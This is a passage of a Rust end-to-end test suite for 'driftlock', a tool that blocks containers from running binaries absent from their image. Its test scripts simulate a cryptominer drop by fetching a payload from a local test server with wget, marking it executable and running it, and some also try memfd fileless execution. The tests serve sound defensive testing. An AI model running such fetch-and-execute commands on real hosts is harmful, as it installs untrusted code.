//! End-to-end with the real components (issue 3): containerd 1.6 and runc through
//! driftlock-runtime, the DreamBus attack inside a container, every container filesystem
//! covered, audit mode by annotation, fail-closed creation, re-arm after a daemon crash.

use std::fs;
use std::process::Command;
use std::time::{Duration, Instant};

use crate::node::*;
use crate::support::BIN;

fn sha256_of_payload() -> String {
    hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
        fs::read(payload_path()).unwrap(),
    ))
}

#[test]
fn dreambus_payload_fetched_into_tmp_is_denied_under_containerd() {
    let Some(node) = Node::new("dreambus") else {
        return;
    };
    let script = format!(
        "echo image-ok; wget -q -O /tmp/kdevtmpfsi {} && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi; echo payload=$?; ls / >/dev/null; echo ls=$?",
        node.payload_url()
    );
    let out = node.run(
        BUSYBOX,
        "web-1",
        &[
            "--annotation",
            "io.kubernetes.cri.image-name=docker.io/library/busybox:1.36",
        ],
        &script,
    );
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    assert!(t.contains("image-ok"), "{t}");
    assert!(t.contains("Operation not permitted"), "{t}");
    assert!(t.contains("payload=126"), "{t}");
    assert!(t.contains("ls=0"), "image binaries keep working: {t}");

    let recs = node.records(1);
    assert_eq!(recs.len(), 1, "{recs:?}");
    let r = &recs[0];
    assert_eq!(r["unit"], "web-1");
    assert_eq!(r["verdict"], "deny");
    assert_eq!(r["path"], "/tmp/kdevtmpfsi");
    assert_eq!(r["image_name"], "docker.io/library/busybox:1.36");
    assert!(
        r["image_key"]
            .as_str()
            .unwrap()
            .starts_with("overlay-lower:"),
        "{r}"
    );
    assert_eq!(r["sha256"], sha256_of_payload().as_str(), "{r}");
    let chain = r["chain"].as_array().unwrap();
    assert!(
        chain.iter().all(|p| p["comm"] == "sh"),
        "the chain stays inside the container: {r}"
    );
    // The forked shell and the container's init, which ends right after the denial: read
    // while the exec was held, not after the answer.
    assert_eq!(chain.len(), 2, "{r}");
    // The container is gone: disarmed when its init exited (pidfd), or by poststop.
    wait_for("the disarm", Duration::from_secs(10), || {
        node.status()["units"]
            .as_array()
            .is_some_and(|u| u.is_empty())
    });
}

#[test]
fn every_container_filesystem_is_covered() {
    let Some(node) = Node::new("coverage") else {
        return;
    };
    let vol = node.dir.join("vol");
    let mount = format!("type=bind,src={},dst=/data,options=rbind:rw", vol.display());
    let script = format!(
        "wget -q -O /p.src {url}; chmod +x /p.src; \
         for d in /run /dev /dev/shm /data /usr/local/bin; do mkdir -p $d; cp /p.src $d/p; $d/p >/dev/null 2>&1; echo \"$d=$?\"; done; \
         hello-dyn; echo hello=$?; cat /p.src > /usr/bin/hello-dyn; hello-dyn >/dev/null 2>&1; echo modified=$?; \
         cp /bin/busybox /tmp/busybox; /tmp/busybox true; echo copy=$?",
        url = node.payload_url()
    );
    let out = node.run(GLIBC, "cov-1", &["--mount", &mount], &script);
    let t = text(&out);
    for place in ["/run", "/dev", "/dev/shm", "/data", "/usr/local/bin"] {
        assert!(
            t.contains(&format!("{place}=126")),
            "payload in {place} must be denied: {t}"
        );
    }
    assert!(
        t.contains("hello=0"),
        "a dynamically linked image program runs: {t}"
    );
    assert!(
        t.contains("modified=126"),
        "a modified image binary is denied: {t}"
    );
    assert!(t.contains("copy=0"), "a copy of an image binary runs: {t}");
    // The same payload on the host side of the volume is not gated.
    assert_eq!(
        Command::new(vol.join("p")).status().unwrap().code(),
        Some(0)
    );
    // /dev/shm is mounted noexec by runc's default spec: the kernel refuses that exec before
    // any event, so it has no record.
    let recs = node.records(5);
    let paths: Vec<&str> = recs.iter().map(|r| r["path"].as_str().unwrap()).collect();
    for p in [
        "/run/p",
        "/dev/p",
        "/data/p",
        "/usr/local/bin/p",
        "/usr/bin/hello-dyn",
    ] {
        assert!(paths.contains(&p), "{p} not recorded: {paths:?}");
    }
}

#[test]
fn audit_annotation_runs_the_payload_and_records_would_deny() {
    let Some(node) = Node::new("audit-annotation") else {
        return;
    };
    let script = format!(
        "wget -q -O /tmp/p {} && chmod +x /tmp/p && /tmp/p; echo payload=$?",
        node.payload_url()
    );
    let out = node.run(
        BUSYBOX,
        "aud-1",
        &["--annotation", "driftlock.io/mode=audit"],
        &script,
    );
    let t = text(&out);
    assert!(
        t.contains("payload ran") && t.contains("payload=0"),
        "audit mode never blocks: {t}"
    );
    let recs = node.records(1);
    assert_eq!(recs[0]["verdict"], "would-deny");
    assert_eq!(recs[0]["mode"], "audit");
    assert_eq!(recs[0]["unit"], "aud-1");
}

#[test]
fn fileless_exec_fails_inside_the_container_only() {
    let Some(node) = Node::new("memfd") else {
        return;
    };
    let before = fs::read_to_string("/proc/sys/vm/memfd_noexec").unwrap();
    let out = node.run(
        GLIBC,
        "mem-1",
        &[],
        "cat /proc/sys/vm/memfd_noexec; memfd-exec; echo memfd=$?",
    );
    let t = text(&out);
    assert!(
        t.starts_with('2'),
        "vm.memfd_noexec=2 in the container: {t}"
    );
    assert!(
        t.contains("memfd=3") || t.contains("memfd=4"),
        "memfd exec must fail: {t}"
    );
    assert_eq!(
        fs::read_to_string("/proc/sys/vm/memfd_noexec").unwrap(),
        before,
        "the host keeps its value"
    );
}

#[test]
fn daemon_down_at_container_start_fails_creation_with_the_hooks_message() {
    let Some(mut node) = Node::new("fail-closed") else {
        return;
    };
    node.kill_daemon();
    let started = Instant::now();
    let out = node.run(BUSYBOX, "down-1", &[], "echo SHOULD-NOT-RUN");
    let t = text(&out);
    assert!(!out.status.success(), "{t}");
    assert!(!t.contains("SHOULD-NOT-RUN"), "{t}");
    assert!(
        t.contains("driftlock: container down-1 was not armed"),
        "{t}"
    );
    assert!(t.contains("cannot connect to the driftlock daemon"), "{t}");
    assert!(started.elapsed() < Duration::from_secs(60));
}

#[test]
fn a_restarted_daemon_protects_running_containers_again() {
    let Some(mut node) = Node::new("restart") else {
        return;
    };
    let mount = node.out_mount();
    node.run_detached_with(BUSYBOX, "long-1", &["--mount", &mount]);
    // Output through a file: ctr can lose the tail of a short exec's stdout (this test
    // once saw an exec after the restart print nothing at all).
    let exec =
        |node: &Node, n: u32, script: &str| node.exec_logged("long-1", &format!("e{n}"), script);
    let fetch = format!(
        "wget -q -O /tmp/p {} && chmod +x /tmp/p; /tmp/p >/dev/null 2>&1; echo rc=$?",
        node.payload_url()
    );
    assert!(exec(&node, 1, &fetch).contains("rc=126"));

    node.kill_daemon();
    let t0 = Instant::now();
    node.start_daemon();
    let restart_to_protected = t0.elapsed();
    let units = node.status()["units"].clone();
    assert_eq!(
        units.as_array().map(Vec::len),
        Some(1),
        "re-armed before ready: {units}"
    );
    assert_eq!(units[0]["id"], "long-1");
    let t = exec(
        &node,
        2,
        "/tmp/p >/dev/null 2>&1; echo rc=$?; ls >/dev/null; echo ls=$?",
    );
    assert!(
        t.contains("rc=126") && t.contains("ls=0"),
        "protected again after the restart: {t}"
    );
    crate::support::figure(&format!(
        "containerd: daemon SIGKILLed and restarted, running container protected again after {restart_to_protected:?}"
    ));
    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "long-1"]);
}

#[test]
fn plain_runc_run_with_a_bundle() {
    let Some(node) = Node::new("plain-runc") else {
        return;
    };
    let bundle = node.dir.join("bundle");
    let layout = node.dir.join("layout");
    fs::create_dir_all(&layout).unwrap();
    let images = images().unwrap();
    assert!(
        Command::new("tar")
            .arg("-C")
            .arg(&layout)
            .arg("-xf")
            .arg(images.join("busybox.tar"))
            .status()
            .unwrap()
            .success()
    );
    let unpack = Command::new("umoci")
        .args(["unpack", "--image"])
        .arg(format!("{}:latest", layout.display()))
        .arg(&bundle)
        .output()
        .unwrap();
    assert!(unpack.status.success(), "{}", text(&unpack));
    // The payload is in the rootfs without an exec bit: data, not part of the baseline.
    let data = bundle.join("rootfs/payload.bin");
    fs::copy(payload_path(), &data).unwrap();
    fs::set_permissions(&data, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let config_path = bundle.join("config.json");
    let mut config: serde_json::Value =
        serde_json::from_slice(&fs::read(&config_path).unwrap()).unwrap();
    config["process"]["terminal"] = false.into();
    config["process"]["args"] = serde_json::json!([
        "sh",
        "-c",
        "cp /payload.bin /tmp/p; chmod +x /tmp/p; /tmp/p; echo payload=$?; echo ok"
    ]);
    fs::write(&config_path, serde_json::to_vec(&config).unwrap()).unwrap();
    let out = Command::new(RUNTIME)
        .args(["--root"])
        .arg(node.dir.join("runc-state"))
        .args(["run", "--bundle"])
        .arg(&bundle)
        .arg("plain-1")
        .env("DRIFTLOCK_SOCKET", &node.dl_socket)
        .env("DRIFTLOCK_BIN", BIN)
        .output()
        .unwrap();
    let t = text(&out);
    assert!(
        t.contains("Operation not permitted") && t.contains("payload=126") && t.contains("ok"),
        "{t}"
    );
    let patched: serde_json::Value =
        serde_json::from_slice(&fs::read(&config_path).unwrap()).unwrap();
    assert_eq!(
        patched["hooks"]["createRuntime"][0]["args"][2],
        "createRuntime"
    );
    assert_eq!(node.records(1)[0]["unit"], "plain-1");
}

/// The path without a wrapper, as containerd's CRI runs it with a base runtime spec:
/// containerd's own default spec (`ctr oci spec`) through `driftlock base-spec`, with the
/// rootfs, command and mounts set on top as CRI sets them, run by plain runc. The hooks
/// arm the container (the DreamBus drop is denied, image programs run) and disarm it.
#[test]
fn a_base_runtime_spec_protects_containers_without_the_wrapper() {
    let Some(node) = Node::new("base-spec") else {
        return;
    };
    let default = node.ctr(&["oci", "spec"]);
    assert!(default.status.success(), "{}", text(&default));
    let mut made = Command::new(BIN)
        .args(["base-spec", "--hook-binary", BIN, "--socket"])
        .arg(&node.dl_socket)
        .env("DRIFTLOCK_RUNTIME_CONF", node.dir.join("no-runtime.conf"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write as _;
        made.stdin
            .take()
            .unwrap()
            .write_all(&default.stdout)
            .unwrap();
    }
    let made = made.wait_with_output().unwrap();
    assert!(made.status.success(), "{}", text(&made));
    let mut spec: serde_json::Value = serde_json::from_slice(&made.stdout).unwrap();
    assert_eq!(spec["hooks"]["createRuntime"][0]["path"], BIN, "{spec}");
    // A poststop hook only where the daemon cannot watch the init's exit by pidfd.
    let pidfd = driftlock::kernel::pidfd::pidfd_supported();
    assert_eq!(
        spec["hooks"]["poststop"][0]["args"][2] == "poststop",
        !pidfd,
        "{spec}"
    );
    // An empty object is refused: every container of the handler would fail.
    let refused = Command::new(BIN)
        .args(["base-spec", "--from", "/dev/null"])
        .env("DRIFTLOCK_RUNTIME_CONF", node.dir.join("no-runtime.conf"))
        .output()
        .unwrap();
    assert!(!refused.status.success(), "{}", text(&refused));

    // What CRI sets on top of the base spec: the image's rootfs, command and environment, the pod's
    // network (here the host's, for the payload's server) and a volume.
    let bundle = node.dir.join("base-bundle");
    let layout = node.dir.join("base-layout");
    fs::create_dir_all(&layout).unwrap();
    let untar = Command::new("tar")
        .arg("-C")
        .arg(&layout)
        .arg("-xf")
        .arg(images().unwrap().join("busybox.tar"))
        .status()
        .unwrap();
    assert!(untar.success());
    let unpack = Command::new("umoci")
        .args(["unpack", "--image"])
        .arg(format!("{}:latest", layout.display()))
        .arg(&bundle)
        .output()
        .unwrap();
    assert!(unpack.status.success(), "{}", text(&unpack));
    let out_dir = node.dir.join("out");
    fs::create_dir_all(&out_dir).unwrap();
    let script = format!(
        "{{ echo image-ok; wget -q -O /tmp/kdevtmpfsi {} && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi; echo payload=$?; ls / >/dev/null; echo ls=$?; }} >/.out/base-1 2>&1",
        node.payload_url()
    );
    spec["root"] = serde_json::json!({"path": bundle.join("rootfs"), "readonly": false});
    spec["process"]["args"] = serde_json::json!(["sh", "-c", script]);
    spec["process"]["env"] = serde_json::json!(["PATH=/usr/sbin:/usr/bin:/sbin:/bin"]);
    spec["process"]["terminal"] = false.into();
    // A cgroup of its own, as CRI gives each container (the default spec's is shared).
    spec["linux"]["cgroupsPath"] = "/default/base-1".into();
    spec["mounts"]
        .as_array_mut()
        .unwrap()
        .push(serde_json::json!({
            "destination": "/.out", "type": "bind", "source": out_dir, "options": ["rbind", "rw"]
        }));
    spec["linux"]["namespaces"]
        .as_array_mut()
        .unwrap()
        .retain(|n| n["type"] != "network");
    let spec_path = node.dir.join("base-spec.json");
    fs::write(&spec_path, serde_json::to_vec(&spec).unwrap()).unwrap();
    let run = node.ctr(&[
        "run",
        "--rm",
        "--config",
        spec_path.to_str().unwrap(),
        "base-1",
    ]);
    let printed = fs::read_to_string(out_dir.join("base-1")).unwrap_or_default();
    assert!(run.status.success(), "{}\n{printed}", text(&run));
    assert!(printed.contains("image-ok"), "{printed}");
    assert!(printed.contains("payload=126"), "{printed}");
    assert!(
        printed.contains("ls=0"),
        "image programs keep working: {printed}"
    );
    let recs = node.records(1);
    assert_eq!(recs[0]["unit"], "base-1", "{recs:?}");
    assert_eq!(recs[0]["verdict"], "deny", "{recs:?}");
    assert_eq!(recs[0]["path"], "/tmp/kdevtmpfsi", "{recs:?}");
    // Disarmed when its init exited.
    wait_for("the disarm", Duration::from_secs(10), || {
        node.status()["units"]
            .as_array()
            .is_some_and(|u| u.is_empty())
    });

    // A container in the host's PID namespace (Kubernetes' hostPID), whose init exits and
    // leaves a process behind that keeps exec'ing the payload, as a hijacked one may:
    // containerd's shim kills what is left in the container's cgroup when such an init
    // exits, and until then every exec is still judged. The container is disarmed once its
    // cgroup is empty, not at the init's exit.
    let late = format!(
        "wget -q -O /tmp/late {} && chmod +x /tmp/late && \
         {{ (while :; do /tmp/late >/dev/null 2>&1; echo r=$? >>/.out/base-2; done) </dev/null >/dev/null 2>&1 & }}; \
         sleep 1; exit 0",
        node.payload_url()
    );
    // The rootfs is a plain directory, snapshotted at each arm: base-1's download is gone.
    let _ = fs::remove_file(bundle.join("rootfs/tmp/kdevtmpfsi"));
    spec["process"]["args"] = serde_json::json!(["sh", "-c", late]);
    spec["linux"]["cgroupsPath"] = "/default/base-2".into();
    spec["linux"]["namespaces"]
        .as_array_mut()
        .unwrap()
        .retain(|n| n["type"] != "pid");
    fs::write(&spec_path, serde_json::to_vec(&spec).unwrap()).unwrap();
    let run = node.ctr(&[
        "run",
        "-d",
        "--config",
        spec_path.to_str().unwrap(),
        "base-2",
    ]);
    assert!(run.status.success(), "{}", text(&run));
    wait_for(
        "the unit of the shared-namespace container",
        Duration::from_secs(10),
        || {
            node.status()["units"]
                .as_array()
                .is_some_and(|u| !u.is_empty())
        },
    );
    wait_for(
        "its disarm once its cgroup is empty",
        Duration::from_secs(20),
        || {
            node.status()["units"]
                .as_array()
                .is_some_and(|u| u.is_empty())
        },
    );
    let results = fs::read_to_string(out_dir.join("base-2")).unwrap_or_default();
    assert!(results.contains("r=126"), "the loop ran: {results}");
    assert!(
        results.lines().all(|l| l == "r=126"),
        "an exec of the container after its init's exit ran unjudged: {results}"
    );
    let _ = node.ctr(&["task", "delete", "base-2"]);
    let _ = node.ctr(&["container", "delete", "base-2"]);
}

/// The capability set of systemd/driftlock.service is enough: the daemon runs with only
/// CAP_SYS_ADMIN, CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH in its bounding set and still
/// arms containers, denies payloads, checks loaders and blocks fileless execution.
#[test]
fn the_daemon_works_with_only_the_units_capabilities() {
    let unit = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/systemd/driftlock.service"
    ))
    .unwrap();
    let caps: Vec<String> = unit
        .lines()
        .find_map(|l| l.strip_prefix("CapabilityBoundingSet="))
        .unwrap()
        .split_whitespace()
        .map(|c| format!("+{}", c.trim_start_matches("CAP_").to_lowercase()))
        .collect();
    let bounding = format!("--bounding-set=-all,{}", caps.join(","));
    let Some(node) = Node::with_daemon("caps", &["setpriv", &bounding, "--"], &[]) else {
        return;
    };
    let script = format!(
        "wget -q -O /tmp/p {} && chmod +x /tmp/p && /tmp/p >/dev/null 2>&1; echo payload=$?\n\
         hello-dyn >/dev/null; echo dynamic=$?\n\
         /lib64/ld-linux-x86-64.so.2 /usr/bin/hello-dyn >/dev/null 2>&1; echo direct=$?\n\
         memfd-exec >/dev/null; echo memfd=$?\n",
        node.payload_url()
    );
    let t = text(&node.run(
        GLIBC,
        "caps-1",
        &["--annotation", "io.kubernetes.cri.image-name=x"],
        &script,
    ));
    for (k, v) in [("payload", "126"), ("dynamic", "0"), ("direct", "126")] {
        assert!(t.contains(&format!("{k}={v}\n")), "{k}={v}: {t}");
    }
    assert!(t.contains("memfd=3") || t.contains("memfd=4"), "{t}");
    let status =
        std::fs::read_to_string(format!("/proc/{}/status", node.status_pid())).unwrap_or_default();
    let bnd = status
        .lines()
        .find(|l| l.starts_with("CapBnd:"))
        .unwrap_or("");
    assert_eq!(
        bnd.trim_start_matches("CapBnd:").trim(),
        "000000c200280004",
        "sys_admin|sys_ptrace|dac_read_search|mac_admin|perfmon|bpf"
    );
}

/// Issue 6: audit → tune → enforce, with evidence. A container in audit mode runs a
/// legitimate runtime-generated binary and a payload; `driftlock tune` proposes both; the
/// operator adds only the legitimate one and reloads; in enforce mode the legitimate binary
/// runs, the payload is denied, and the payload's bytes are in the quarantine under the
/// sha256 its record names.
#[test]
fn audit_tune_enforce_workflow_keeps_evidence() {
    let Some(node) = Node::new("tune") else {
        return;
    };
    let image = "registry.local/app:1";
    let script = format!(
        "mkdir /tmp/legit; cp /bin/busybox /tmp/legit/busybox; printf 'x' >> /tmp/legit/busybox; /tmp/legit/busybox true; echo legit=$?\n\
         wget -q -O /tmp/miner {} && chmod +x /tmp/miner && /tmp/miner >/dev/null; echo miner=$?\n",
        node.payload_url()
    );
    let annotations = |mode: Option<&str>| {
        let mut a = vec![
            format!("io.kubernetes.cri.image-name={image}"),
            "io.kubernetes.cri.sandbox-namespace=shop".to_string(),
            "io.kubernetes.cri.sandbox-name=app-7d9f".to_string(),
            "io.kubernetes.cri.container-name=app".to_string(),
        ];
        if let Some(m) = mode {
            a.push(format!("driftlock.io/mode={m}"));
        }
        a.into_iter()
            .flat_map(|x| ["--annotation".to_string(), x])
            .collect::<Vec<_>>()
    };
    let a = annotations(Some("audit"));
    let args: Vec<&str> = a.iter().map(String::as_str).collect();
    let t = text(&node.run(BUSYBOX, "audit-1", &args, &script));
    assert!(
        t.contains("legit=0") && t.contains("miner=0"),
        "audit mode runs both: {t}"
    );

    let tune = Command::new(BIN)
        .arg("tune")
        .arg(&node.audit)
        .output()
        .unwrap();
    assert!(tune.status.success(), "{}", text(&tune));
    let proposal = String::from_utf8(tune.stdout).unwrap();
    let blocks: Vec<&str> = proposal
        .split("\n\n")
        .filter(|b| b.contains("[[allow]]"))
        .collect();
    assert_eq!(blocks.len(), 2, "both proposed:\n{proposal}");
    let legit = blocks.iter().find(|b| b.contains("/tmp/legit")).unwrap();
    // Scoped as narrowly as the records allow, and surviving an image bump: the namespace,
    // and the repository without the tag.
    assert!(legit.contains("namespace = \"shop\""), "{legit}");
    assert!(
        legit.contains(&format!(
            "repository = \"{}\"",
            driftlock::config::repository_of(image)
        )),
        "{legit}"
    );
    assert!(!legit.contains("image ="), "no exact tag: {legit}");
    let miner_sha = sha256_of_payload();
    assert!(proposal.contains(&miner_sha));

    // The operator keeps only the legitimate entry, and reloads.
    std::fs::write(
        node.config_path(),
        legit
            .lines()
            .filter(|l| !l.starts_with('#'))
            .collect::<Vec<_>>()
            .join("\n"),
    )
    .unwrap();
    let check = Command::new(BIN)
        .args(["config", "check"])
        .arg(node.config_path())
        .output()
        .unwrap();
    assert!(check.status.success(), "{}", text(&check));
    let reloads = node.status()["config_reloads"].as_u64().unwrap_or(0);
    node.signal_daemon(nix::sys::signal::Signal::SIGHUP);
    wait_for("the reload", Duration::from_secs(10), || {
        node.status()["config_reloads"].as_u64().unwrap_or(0) > reloads
    });

    let e = annotations(None);
    let args: Vec<&str> = e.iter().map(String::as_str).collect();
    let t = text(&node.run(BUSYBOX, "enforce-1", &args, &script));
    assert!(t.contains("legit=0"), "the allowed binary runs: {t}");
    assert!(t.contains("miner=126"), "the payload is denied: {t}");

    let recs = node.records(3);
    let deny = recs
        .iter()
        .find(|r| r["unit"] == "enforce-1" && r["verdict"] == "deny")
        .expect("deny record");
    assert_eq!(deny["sha256"], miner_sha.as_str());
    assert_eq!(deny["evidence"], miner_sha.as_str());
    assert_eq!(deny["k8s_namespace"], "shop");
    assert_eq!(deny["k8s_pod"], "app-7d9f");
    assert_eq!(deny["k8s_container"], "app");
    let kept = node.dl_state.join("evidence").join(&miner_sha);
    assert_eq!(
        std::fs::read(&kept).unwrap(),
        std::fs::read(payload_path()).unwrap(),
        "the payload's bytes are kept"
    );
    let list = Command::new(BIN)
        .args(["evidence", "list", "--state-dir"])
        .arg(&node.dl_state)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&list.stdout).contains(&miner_sha));
    let out = node.dir.join("exported.bin");
    let export = Command::new(BIN)
        .args(["evidence", "export", &miner_sha, "-o"])
        .arg(&out)
        .arg("--state-dir")
        .arg(&node.dl_state)
        .output()
        .unwrap();
    assert!(export.status.success(), "{}", text(&export));
    assert_eq!(
        std::fs::read(&out).unwrap(),
        std::fs::read(payload_path()).unwrap()
    );
}

/// Issue 6: `driftlock explain` and the last deny in `driftlock status`.
#[test]
fn explain_says_why_and_status_shows_the_last_deny() {
    let Some(node) = Node::new("explain") else {
        return;
    };
    node.run_detached(GLIBC, "ex-1");
    let setup = format!(
        "wget -q -O /tmp/miner {} && chmod +x /tmp/miner; /tmp/miner; cp /usr/bin/hello-dyn /tmp/renamed; echo done",
        node.payload_url()
    );
    let t = text(&node.ctr(&[
        "tasks",
        "exec",
        "--exec-id",
        "s",
        "ex-1",
        "sh",
        "-c",
        &setup,
    ]));
    assert!(t.contains("done"), "{t}");
    let explain = |path: &str| -> serde_json::Value {
        let out = Command::new(BIN)
            .args(["explain", path, "--container", "ex-1", "--json", "--socket"])
            .arg(&node.dl_socket)
            .output()
            .unwrap();
        serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", text(&out)))
    };
    let miner = explain("/tmp/miner");
    assert_eq!(miner["verdict"], "deny");
    assert_eq!(miner["covered"], true);
    assert_eq!(miner["sha256"], sha256_of_payload().as_str());
    assert!(
        miner["why"].as_str().unwrap().contains("not in the image"),
        "{miner}"
    );
    // This machine's kernel refuses the mapping gate: explain says mappings are not judged
    // (the guest tests check its verdicts where the gate runs).
    assert!(miner.get("mapping").is_none(), "{miner}");
    assert!(
        miner["mapping_why"]
            .as_str()
            .unwrap()
            .contains("mapping gate is not active"),
        "{miner}"
    );
    let renamed = explain("/tmp/renamed");
    assert_eq!(renamed["verdict"], "allow");
    assert_eq!(renamed["baseline_paths"][0], "/usr/bin/hello-dyn");
    let loader = explain("/lib64/ld-linux-x86-64.so.2");
    assert_eq!(loader["loader"], true);
    assert!(
        loader["why"]
            .as_str()
            .unwrap()
            .contains("direct invocation is denied"),
        "{loader}"
    );

    let status = Command::new(BIN)
        .args(["status", "--socket"])
        .arg(&node.dl_socket)
        .output()
        .unwrap();
    let s = String::from_utf8_lossy(&status.stdout);
    assert!(s.contains("last deny: /tmp/miner at "), "{s}");
    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "ex-1"]);
}

#[test]
fn hostile_names_inside_a_container_are_judged_and_recorded_faithfully() {
    let Some(node) = Node::new("names") else {
        return;
    };
    node.run_detached(GLIBC, "names-1");
    // A 255-byte name (NAME_MAX): control characters, an escape sequence, a newline, bytes
    // that are not UTF-8 and text that looks like our own escaping; then a path of 15
    // such directories (3,846 bytes, near PATH_MAX).
    let script = format!(
        r#"wget -q -O /tmp/p {url} && chmod +x /tmp/p
n="$(printf '\001\033[31m\377\376\nx\\x41')$(printf '%0241d' 0 | tr 0 y)"
cp /tmp/p "/tmp/$n"; "/tmp/$n" >/dev/null 2>&1; echo deny=$?
cp /usr/bin/hello-dyn "/tmp/${{n%y}}z"; "/tmp/${{n%y}}z"; echo allow=$?
d=/tmp; i=0; while [ $i -lt 15 ]; do d="$d/${{n%y}}d"; i=$((i+1)); done
mkdir -p "$d" && cp /tmp/p "$d/p" && "$d/p" >/dev/null 2>&1; echo deep=$?"#,
        url = node.payload_url()
    );
    let out = node.ctr(&[
        "tasks",
        "exec",
        "--exec-id",
        "n1",
        "names-1",
        "sh",
        "-c",
        &script,
    ]);
    let t = text(&out);
    assert!(t.contains("deny=126"), "{t}");
    assert!(
        t.contains("hello from a dynamically linked program") && t.contains("allow=0"),
        "{t}"
    );
    assert!(t.contains("deep=126"), "{t}");

    let mut name = b"\x01\x1b[31m\xff\xfe\nx\\x41".to_vec();
    name.extend(std::iter::repeat_n(b'y', 241));
    assert_eq!(name.len(), 255);
    let mut deep = b"/tmp".to_vec();
    for _ in 0..15 {
        deep.push(b'/');
        deep.extend_from_slice(&name[..254]);
        deep.push(b'd');
    }
    deep.extend_from_slice(b"/p");
    let mut shallow = b"/tmp/".to_vec();
    shallow.extend_from_slice(&name);
    let recs = node.records(2);
    let paths: Vec<Vec<u8>> = recs.iter().map(crate::support::record_path).collect();
    assert_eq!(paths, vec![shallow, deep], "lossless paths in the records");
    assert!(recs.iter().all(|r| r["verdict"] == "deny"));
    let raw = fs::read(&node.audit).unwrap();
    assert!(
        raw.split(|b| *b == b'\n')
            .filter(|l| !l.is_empty())
            .all(|l| serde_json::from_slice::<serde_json::Value>(l).is_ok()),
        "every record is one JSON line"
    );
    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "names-1"]);
}

/// Issue 19: under the default annotation policy (`ignore`) a workload cannot switch its
/// own enforcement off: its `driftlock.io/mode=audit` annotation is set aside and the
/// payload is denied; the operator's namespace rule still puts a namespace in audit.
#[test]
fn annotations_cannot_weaken_enforcement_by_default() {
    let Some(node) = Node::with_daemon_args("annotations-ignore", &["--annotations", "ignore"])
    else {
        return;
    };
    let script = format!(
        "wget -q -O /tmp/p {} && chmod +x /tmp/p && /tmp/p; echo payload=$?",
        node.payload_url()
    );
    let out = node.run(
        BUSYBOX,
        "tenant-1",
        &["--annotation", "driftlock.io/mode=audit"],
        &script,
    );
    let t = text(&out);
    assert!(
        t.contains("payload=126") && !t.contains("payload ran"),
        "the tenant's annotation must not weaken enforcement: {t}"
    );
    let recs = node.records(1);
    assert_eq!(recs[0]["verdict"], "deny");
    assert_eq!(recs[0]["mode"], "enforce");
}

/// Issue 19: `--annotations stricter-only`: an annotation may ask for enforce where the
/// operator's rules say audit, never for audit where they say enforce.
#[test]
fn annotations_stricter_only_tighten_but_never_loosen() {
    let Some(node) = Node::with_daemon_args(
        "annotations-stricter",
        &["--annotations", "stricter-only", "--mode", "audit"],
    ) else {
        return;
    };
    let script = format!(
        "wget -q -O /tmp/p {} && chmod +x /tmp/p && /tmp/p; echo payload=$?",
        node.payload_url()
    );
    // Read from a file the script writes: `ctr run --rm` can lose a task's last output
    // (this test once read an empty stdout under the full suite; see `Node::run_logged`).
    let t = node.run_logged(
        BUSYBOX,
        "strict-1",
        &["--annotation", "driftlock.io/mode=enforce"],
        &script,
    );
    assert!(
        t.contains("payload=126"),
        "enforce asked, enforce given: {t}"
    );
    let t = node.run_logged(BUSYBOX, "plain-1", &[], &script);
    assert!(t.contains("payload=0"), "the rules say audit: {t}");
    let recs = node.records(2);
    let verdict_of = |unit: &str| {
        recs.iter()
            .find(|r| r["unit"] == unit)
            .map(|r| r["verdict"].clone())
    };
    assert_eq!(verdict_of("strict-1"), Some("deny".into()));
    assert_eq!(verdict_of("plain-1"), Some("would-deny".into()));
}

/// `--pod NAMESPACE/NAME [-c NAME]` names a Kubernetes pod's containers for `explain`,
/// `mode` and `disarm`, as `kubectl` users name them; a pod of several containers needs
/// `-c` where one container is meant, and a pod with none armed is "no such container".
#[test]
fn pods_are_named_as_kubectl_names_them() {
    let Some(node) = Node::new("pods") else {
        return;
    };
    let out = node.out_mount();
    for (id, name) in [("pod-web", "web"), ("pod-side", "side")] {
        let ann = [
            "--mount",
            &out,
            "--annotation",
            "io.kubernetes.cri.sandbox-namespace=shop",
            "--annotation",
            "io.kubernetes.cri.sandbox-name=checkout-7d9f",
            "--annotation",
            &format!("io.kubernetes.cri.container-name={name}"),
        ];
        let ann: Vec<&str> = ann.iter().map(|s| s.as_ref()).collect();
        node.run_detached_with(BUSYBOX, id, &ann);
    }
    let cli = |args: &[&str]| {
        Command::new(BIN)
            .args(args)
            .arg("--socket")
            .arg(&node.dl_socket)
            .output()
            .unwrap()
    };
    let both = cli(&["explain", "/bin/sh", "--pod", "shop/checkout-7d9f"]);
    assert_eq!(both.status.code(), Some(2), "{}", text(&both));
    assert!(text(&both).contains("-c NAME"), "{}", text(&both));
    let one = cli(&[
        "explain",
        "/bin/sh",
        "--pod",
        "shop/checkout-7d9f",
        "-c",
        "web",
    ]);
    assert!(one.status.success(), "{}", text(&one));
    assert!(text(&one).contains("pod-web"), "{}", text(&one));
    let none = cli(&["explain", "/bin/sh", "--pod", "shop/gone"]);
    assert_eq!(none.status.code(), Some(4), "{}", text(&none));

    // A script dropped in the running container: denied, then (audit) run, then denied
    // again, without restarting it. The container was armed at creation, through a path
    // that leads nowhere once it runs: the switch finds its mounts from its process.
    let drop_and_run = |exec_id: &str| {
        node.exec_logged(
            "pod-web",
            exec_id,
            "printf '#!/bin/sh\necho DROPPED-RAN\n' > /tmp/p; chmod +x /tmp/p; /tmp/p; echo rc=$?",
        )
    };
    let before = drop_and_run("e1");
    assert!(before.contains("rc=126"), "{before}");
    let switched = cli(&["mode", "audit", "--pod", "shop/checkout-7d9f", "--json"]);
    assert!(switched.status.success(), "{}", text(&switched));
    let changes: serde_json::Value = serde_json::from_slice(&switched.stdout).unwrap();
